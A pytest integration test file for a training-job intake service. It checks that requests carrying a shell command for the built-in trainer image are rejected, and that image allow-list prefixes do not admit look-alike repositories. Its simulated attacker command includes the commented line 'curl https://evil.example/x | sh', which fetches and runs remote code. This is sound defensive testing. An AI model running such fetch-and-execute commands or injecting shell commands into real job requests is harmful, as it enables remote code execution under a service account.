"""Code a requester may run, through the live functions on the emulators and the local JobService: the built-in
trainer's image runs only the built-in trainer, whoever asks (a Pub/Sub publisher or a data uploader's marker) and
even when the operator's allow-list covers its repository; an allow-list prefix admits nothing beside it that
merely shares its letters. Each refusal is a `rejected` event naming trainer.image, and no job is created."""

from __future__ import annotations

import json
import uuid

import pytest

from functions.intake.triggers import derive_request_id
from local.names import LOCAL_TRAINER_IMAGE
from tests.integration.deployment import Deployment, fake_node_request
from tests.integration.test_controller_intake import jobs_with_key

# As an operator might write them: the test image's folder without its trailing '/', and the trainer's own
# repository (what Terraform and the local stack used to add by themselves).
ALLOWED_PREFIXES = "localhost/tests,localhost/trainctl/"
BUILTIN_GUARDRAIL = (
    "trainer.image: guardrail builtin_image: localhost/trainctl/trainer:latest is from the built-in trainer's "
    "repository (localhost/trainctl/), whose images run only the built-in trainer: ask for `builtin: tabular` "
    "instead of an image; custom code needs an image from an allowed registry; allowed: localhost/tests/, "
    "localhost/trainctl/"
)


@pytest.fixture(scope="module")
def deployment(pubsub_emulator, fake_gcs, jobservice, tmp_path_factory):
    deployed = Deployment(
        uuid.uuid4().hex[:8], jobservice.rest_url, {"TRAINCTL_ALLOWED_IMAGE_PREFIXES": ALLOWED_PREFIXES}
    )
    # A rule whose template lets markers choose the trainer (issue 24 point 7's `marker_may_set`), so that what
    # refuses the built-in image with a command is the image rule itself, whoever asks.
    template = {**fake_node_request("template"), "marker_may_set": ["dataset", "trainer"]}
    del template["request_id"]
    rules = {f"gs://{deployed.data_bucket}/open/": template}
    deployed.extra_settings["TRAINCTL_TRIGGER_RULES"] = json.dumps(rules)
    deployed.create(tmp_path_factory.mktemp("functions"))
    try:
        yield deployed
    finally:
        deployed.stop()


def shell(planted) -> list[str]:
    """What an attacker would run as the trainer's account (here it only leaves a file behind)."""
    return ["bash", "-c", f"touch {planted}  # curl https://evil.example/x | sh"]


def test_the_built_in_image_with_a_shell_command_from_pubsub_is_rejected(deployment, job_client, tmp_path):
    """Guards issue 24, point 1: `{"image": <trainer image>, "command": ["bash", "-c", …]}` published on the
    requests topic was admitted and ran as the trainer's service account."""
    events = deployment.events()
    planted = tmp_path / "pwned"
    request = fake_node_request("builtin-shell-1")
    request["trainer"] = {"image": LOCAL_TRAINER_IMAGE, "command": shell(planted)}
    assert deployment.request(request) == 200
    (rejected,) = events.of("builtin-shell-1", "rejected")
    assert rejected.errors == [BUILTIN_GUARDRAIL]
    assert jobs_with_key(job_client, "request:builtin-shell-1") == []
    assert deployment.record("request:builtin-shell-1") is None
    assert not planted.exists()


def test_the_built_in_image_with_a_shell_command_from_a_marker_is_rejected(deployment, job_client, tmp_path):
    """Guards issue 24, point 1: a data uploader's non-empty `_SUCCESS` holding overrides (under a trigger rule
    whose template lets the marker set the trainer) could do the same as a publisher."""
    events = deployment.events()
    planted = tmp_path / "pwned"
    overrides = {"trainer": {"image": LOCAL_TRAINER_IMAGE, "command": shell(planted)}}
    marker = deployment.upload_marker("open/builtin-shell/", json.dumps(overrides))
    assert deployment.post("on_dataset_upload", deployment.storage_event(marker)) == 200
    request_id = derive_request_id("open/builtin-shell/_SUCCESS", str(marker.generation))
    (rejected,) = events.of(request_id, "rejected")
    assert rejected.errors == [BUILTIN_GUARDRAIL]
    key = f"gcs:{deployment.data_bucket}/open/builtin-shell/_SUCCESS#{marker.generation}"
    assert jobs_with_key(job_client, key) == []
    assert deployment.record(key) is None
    assert not planted.exists()


def test_an_image_beside_an_allowed_folder_is_rejected(deployment, job_client):
    """Guards issue 24, point 2: the prefix `localhost/tests` admitted `localhost/tests-evil/miner:1`."""
    events = deployment.events()
    request = fake_node_request("sibling-image-1")
    request["trainer"]["image"] = "localhost/tests-evil/miner:1"
    assert deployment.request(request) == 200
    (rejected,) = events.of("sibling-image-1", "rejected")
    assert rejected.errors == [
        "trainer.image: guardrail allowed_image_prefixes: localhost/tests-evil/miner:1 is not from an allowed "
        "registry; allowed: localhost/tests/, localhost/trainctl/"
    ]
    assert jobs_with_key(job_client, "request:sibling-image-1") == []


def test_an_allowed_image_still_runs_its_own_command(deployment, job_client):
    """The control for the three above: an image under the allowed folder runs the request's command."""
    events = deployment.events()
    request = fake_node_request("allowed-image-1")
    request["trainer"] |= {"command": ["python", "tests/local/programs/fake_node.py"]}
    assert deployment.request(request) == 200
    assert events.states("allowed-image-1") == ["accepted", "submitted"]
    assert len(jobs_with_key(job_client, "request:allowed-image-1")) == 1
